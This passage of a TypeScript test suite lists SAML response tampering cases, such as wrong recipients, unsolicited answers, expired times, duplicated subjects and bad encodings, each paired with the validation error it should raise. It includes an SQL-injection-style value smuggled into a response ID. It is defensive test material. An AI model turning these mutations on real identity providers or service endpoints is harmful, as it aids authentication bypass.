    xml: withAssertionAttribute(/Recipient="[^"]*"/, `Recipient="${elsewhere}"`),
  },
  { name: 'there is no recipient', meets: ['saml_recipient'], xml: withAssertionAttribute(/ Recipient="[^"]*"/, '') },
  {
    name: 'the destination is another',
    meets: ['saml_recipient'],
    xml: saidAround((r) => edited(r, /Destination="[^"]*"/, `Destination="${elsewhere}"`)),
  },
  {
    name: 'the destination is ours over plain http',
    meets: ['saml_recipient'],
    xml: saidAround((r) => edited(r, 'Destination="https:', 'Destination="http:')),
  },
  { name: 'there is no destination', meets: ['saml_recipient'], xml: saidAround((r) => edited(r, / Destination="[^"]*"/, '')) },

  { name: 'the response answers nothing', meets: ['saml_unsolicited'], xml: saidAround((r) => edited(r, / InResponseTo="[^"]*"/, '')) },
  { name: 'the confirmation answers nothing', meets: ['saml_unsolicited'], xml: withAssertionAttribute(/ InResponseTo="[^"]*"/, '') },
  { name: 'nothing answers anything', meets: ['saml_unsolicited'], xml: saidOf(() => ({ requestId: null })) },
  { name: 'it answers another request', meets: ['saml_unsolicited'], xml: saidOf(() => ({ requestId: newId() })) },
  {
    name: 'the confirmation answers another request',
    meets: ['saml_unsolicited'],
    xml: withAssertionAttribute(/ InResponseTo="[^"]*"/, ' InResponseTo="_other"'),
  },
  { name: 'it answers the empty request', meets: ['saml_unsolicited'], xml: saidOf(() => ({ requestId: '' })) },
  { name: 'unasked, yet it answers a request', unasked: true, meets: ['saml_unsolicited'], xml: saidOf(() => ({ requestId: newId() })) },
  {
    name: 'unasked, yet the response answers a request',
    unasked: true,
    meets: ['saml_unsolicited'],
    xml: saidAround((r) => edited(r, '<samlp:Response ', '<samlp:Response InResponseTo="_a" ')),
  },
  {
    name: 'unasked, yet the confirmation answers a request',
    unasked: true,
    meets: ['saml_unsolicited'],
    xml: withAssertionAttribute('<saml:SubjectConfirmationData ', '<saml:SubjectConfirmationData InResponseTo="_a" '),
  },
  {
    name: 'unasked, for another audience',
    unasked: true,
    meets: ['saml_audience'],
    xml: saidOf(() => ({ audience: 'https://elsewhere.example' })),
  },
  {
    name: 'unasked, for another recipient',
    unasked: true,
    meets: ['saml_recipient'],
    xml: withAssertionAttribute(/Recipient="[^"]*"/, `Recipient="${elsewhere}"`),
  },

  { name: 'everything is six minutes old', meets: ['saml_expired'], xml: saidOf(({ facts }) => ({ now: facts.now - 6.5 * minute })) },
  {
    name: 'the assertion is old, whatever it says of its end',
    meets: ['saml_expired'],
    xml: withAssertionAttribute(/IssueInstant="[^"]*"/, `IssueInstant="${instant(Date.now() - 7 * minute)}"`),
  },
  {
    name: 'the response is old',
    meets: ['saml_expired'],
    xml: saidAround((r) => edited(r, /IssueInstant="[^"]*"/, `IssueInstant="${instant(Date.now() - 7 * minute)}"`)),
  },
  {
    name: 'the confirmation has expired',
    meets: ['saml_expired'],
    xml: withAssertionAttribute(/NotOnOrAfter="[^"]*" Recipient/, `NotOnOrAfter="${instant(Date.now() - 2 * minute)}" Recipient`),
  },
  {
    name: 'the conditions have expired',
    meets: ['saml_expired'],
    xml: withAssertionAttribute(
      /(?<=<saml:Conditions NotBefore="[^"]*" )NotOnOrAfter="[^"]*"/,
      `NotOnOrAfter="${instant(Date.now() - 2 * minute)}"`,
    ),
  },
  {
    name: 'the person’s session has expired',
    meets: ['saml_expired'],
    xml: withAssertionAttribute('SessionIndex=', `SessionNotOnOrAfter="${instant(Date.now() - 2 * minute)}" SessionIndex=`),
  },
  { name: 'everything is of the future', meets: ['saml_not_yet_valid'], xml: saidOf(({ facts }) => ({ now: facts.now + 3 * minute })) },
  {
    name: 'the conditions are of the future',
    meets: ['saml_not_yet_valid'],
    xml: withAssertionAttribute(/NotBefore="[^"]*"/, `NotBefore="${instant(Date.now() + 2 * minute)}"`),
  },
  {
    name: 'the confirmation is of the future',
    meets: ['saml_not_yet_valid'],
    xml: withAssertionAttribute(
      '<saml:SubjectConfirmationData ',
      `<saml:SubjectConfirmationData NotBefore="${instant(Date.now() + 2 * minute)}" `,
    ),
  },
  {
    name: 'the sign-in is of the future',
    meets: ['saml_not_yet_valid'],
    xml: withAssertionAttribute(/AuthnInstant="[^"]*"/, `AuthnInstant="${instant(Date.now() + 2 * minute)}"`),
  },
  ...(
    [
      ['is no time', 'tomorrow'],
      ['has no zone', '2099-01-01T00:00:00'],
      ['has another zone', '2099-01-01T00:00:00+14:00'],
      ['has six digits in its year', '+099999-01-01T00:00:00Z'],
      ['is empty', ''],
    ] as const
  ).map(
    ([what, text]): Attack => ({
      name: `the time of the end ${what}`,
      meets: ['saml_malformed'],
      xml: withAssertionAttribute(/NotOnOrAfter="[^"]*" Recipient/, `NotOnOrAfter="${text}" Recipient`),
    }),
  ),
  {
    name: 'the confirmation has no end',
    meets: ['saml_malformed'],
    xml: withAssertionAttribute(/NotOnOrAfter="[^"]*" Recipient/, 'Recipient'),
  },
  {
    name: 'the conditions have no end',
    meets: ['saml_malformed'],
    xml: withAssertionAttribute(/(?<=<saml:Conditions NotBefore="[^"]*") NotOnOrAfter="[^"]*"/, ''),
  },
  { name: 'the assertion has no time', meets: ['saml_malformed'], xml: withAssertionAttribute(/ IssueInstant="[^"]*"/, '') },
  { name: 'the response has no time', meets: ['saml_malformed'], xml: saidAround((r) => edited(r, / IssueInstant="[^"]*"/, '')) },

  {
    name: 'there are no conditions',
    meets: ['saml_malformed'],
    xml: withAssertionAttribute(/<saml:Conditions[\s\S]*<\/saml:Conditions>/, ''),
  },
  {
    name: 'there are two sets of conditions',
    meets: ['saml_malformed'],
    xml: said((a) => {
      const conditions = /<saml:Conditions[\s\S]*<\/saml:Conditions>/.exec(a)?.[0] ?? ''
      return edited(a, conditions, conditions + conditions)
    }),
  },
  {
    name: 'there is a condition that nobody knows',
    meets: ['saml_malformed'],
    xml: withAssertionAttribute('</saml:Conditions>', '<saml:Condition/></saml:Conditions>'),
  },
  { name: 'there is no subject', meets: ['saml_malformed'], xml: withAssertionAttribute(/<saml:Subject>[\s\S]*<\/saml:Subject>/, '') },
  {
    name: 'there are two subjects',
    meets: ['saml_malformed'],
    xml: said((a) => {
      const subject = /<saml:Subject>[\s\S]*<\/saml:Subject>/.exec(a)?.[0] ?? ''
      return edited(a, subject, subject + subject)
    }),
  },
  {
    name: 'there are two names',
    meets: ['saml_malformed'],
    xml: withAssertionAttribute('<saml:NameID', `<saml:NameID>${mallory}</saml:NameID><saml:NameID`),
  },
  {
    name: 'the name holds an element',
    meets: ['saml_malformed'],
    xml: withAssertionAttribute('</saml:NameID>', '<b xmlns="urn:b">x</b></saml:NameID>'),
  },
  {
    name: 'the name is of another namespace too',
    meets: ['saml_malformed'],
    xml: withAssertionAttribute('<saml:NameID', `<x:NameID xmlns:x="urn:x">${mallory}</x:NameID><saml:NameID`),
  },
  {
    name: 'the name is encrypted',
    meets: ['saml_malformed'],
    xml: withAssertionAttribute(/<saml:NameID[\s\S]*<\/saml:NameID>/, '<saml:EncryptedID/>'),
  },
  { name: 'there is a BaseID', meets: ['saml_malformed'], xml: withAssertionAttribute('<saml:NameID', '<saml:BaseID/><saml:NameID') },
  {
    name: 'nothing is confirmed',
    meets: ['saml_malformed'],
    xml: withAssertionAttribute(/<saml:SubjectConfirmation [\s\S]*<\/saml:SubjectConfirmation>/, ''),
  },
  {
    name: 'it is confirmed twice',
    meets: ['saml_malformed'],
    xml: said((a) => {
      const confirmation = /<saml:SubjectConfirmation [\s\S]*<\/saml:SubjectConfirmation>/.exec(a)?.[0] ?? ''
      return edited(a, confirmation, confirmation + confirmation)
    }),
  },
  {
    name: 'the confirmation has no data',
    meets: ['saml_malformed'],
    xml: withAssertionAttribute(/<saml:SubjectConfirmationData[^>]*\/>/, ''),
  },
  {
    name: 'it is confirmed by the holder of a key',
    meets: ['saml_malformed'],
    xml: withAssertionAttribute('cm:bearer', 'cm:holder-of-key'),
  },
  { name: 'the sender vouches for it', meets: ['saml_malformed'], xml: withAssertionAttribute('cm:bearer', 'cm:sender-vouches') },
  { name: 'the confirmation has no method', meets: ['saml_malformed'], xml: withAssertionAttribute(/ Method="[^"]*"/, '') },
  {
    name: 'nobody was authenticated',
    meets: ['saml_malformed'],
    xml: withAssertionAttribute(/<saml:AuthnStatement[\s\S]*<\/saml:AuthnStatement>/, ''),
  },
  {
    name: 'there is an AuthzDecisionStatement',
    meets: ['saml_malformed'],
    xml: withAssertionAttribute('<saml:AuthnStatement', '<saml:AuthzDecisionStatement/><saml:AuthnStatement'),
  },
  {
    name: 'an attribute is encrypted',
    meets: ['saml_malformed'],
    xml: withAssertionAttribute('<saml:AttributeStatement>', '<saml:AttributeStatement><saml:EncryptedAttribute/>'),
  },
  { name: 'the assertion is of version 1.1', meets: ['saml_malformed'], xml: withAssertionAttribute('Version="2.0"', 'Version="1.1"') },
  {
    name: 'the response is of version 1.1',
    meets: ['saml_malformed'],
    xml: saidAround((r) => edited(r, 'Version="2.0"', 'Version="1.1"')),
  },
  { name: 'the response has no id', meets: ['saml_malformed'], xml: saidAround((r) => edited(r, / ID="[^"]*"/, '')) },
  {
    name: 'the response has an id that is none',
    meets: ['saml_malformed'],
    xml: saidAround((r) => edited(r, / ID="[^"]*"/, ' ID="1 or 1=1"')),
  },

  ...(['Requester', 'Responder', 'VersionMismatch', 'AuthnFailed'] as const).map(
    (status): Attack => ({
      name: `the status is ${status}, with an assertion all the same`,
      meets: ['saml_status'],
      xml: saidAround((r) => edited(r, 'status:Success', `status:${status}`)),
    }),
  ),
  {
    name: 'the status is a success inside a failure',
    meets: ['saml_status'],
    xml: saidAround((r) =>
      edited(
        r,
        /<samlp:StatusCode [^>]*\/>/,
        '<samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Responder"><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:StatusCode>',
      ),
    ),
  },
  { name: 'there is no status', meets: ['saml_malformed'], xml: saidAround((r) => edited(r, /<samlp:Status>.*<\/samlp:Status>/, '')) },
  {
    name: 'there are two statuses',
    meets: ['saml_malformed', 'saml_status'],
    xml: saidAround((r) => edited(r, '<samlp:Status>', '<samlp:Status><samlp:StatusCode Value="x"/></samlp:Status><samlp:Status>')),
  },
  { name: 'there is no assertion', meets: ['saml_malformed'], xml: ({ facts }) => responseXml(facts, '') },
]

const forms: readonly Attack[] = [
  { name: 'a logout response', meets: ['saml_malformed'], xml: saidAround((r) => r.replaceAll('samlp:Response', 'samlp:LogoutResponse')) },
  { name: 'a request', meets: ['saml_malformed'], xml: saidAround((r) => r.replaceAll('samlp:Response', 'samlp:AuthnRequest')) },
  {
    name: 'a response of SAML 1.1',
    meets: ['saml_malformed'],
    xml: saidAround((r) => edited(r, 'SAML:2.0:protocol', 'SAML:1.0:protocol')),
  },
  { name: 'the assertion without a response', meets: ['saml_malformed'], xml: signedAssertion },
  { name: 'a page', meets: ['saml_malformed'], xml: () => '<html><body>no</body></html>' },
  { name: 'a larger answer than any', meets: ['saml_malformed'], xml: saidAround((r) => edited(r, 'Amélie', 'a'.repeat(270_000))) },
  { name: 'nothing', meets: ['saml_malformed'], field: () => '' },
  { name: 'no Base64', meets: ['saml_malformed'], field: () => '<samlp:Response/>' },
  {
    name: 'Base64 with something between',
    meets: ['saml_malformed'],
    field: (world) => fieldOf(honestAnswer(world)).replace(/(?<=.{100})/, '*'),
  },
  { name: 'base64url', meets: ['saml_malformed'], field: () => '____' },
  { name: 'what was compressed', meets: ['saml_malformed'], field: (world) => deflateRawSync(honestAnswer(world)).toString('base64') },
  {
    name: 'UTF-16',
    meets: ['saml_malformed'],
    field: (world) => Buffer.from(`\uFEFF${honestAnswer(world)}`, 'utf16le').toString('base64'),
  },
  {
    name: 'bytes that are no UTF-8',
    meets: ['saml_malformed'],
    field: (world) => Buffer.from(honestAnswer(world).replace('Amélie', 'Am\u00e9lie'), 'latin1').toString('base64'),
  },
]

export const attacks: readonly Attack[] = [...wrapping, ...signatures, ...texts, ...algorithmAttacks, ...ciphers, ...contents, ...forms]
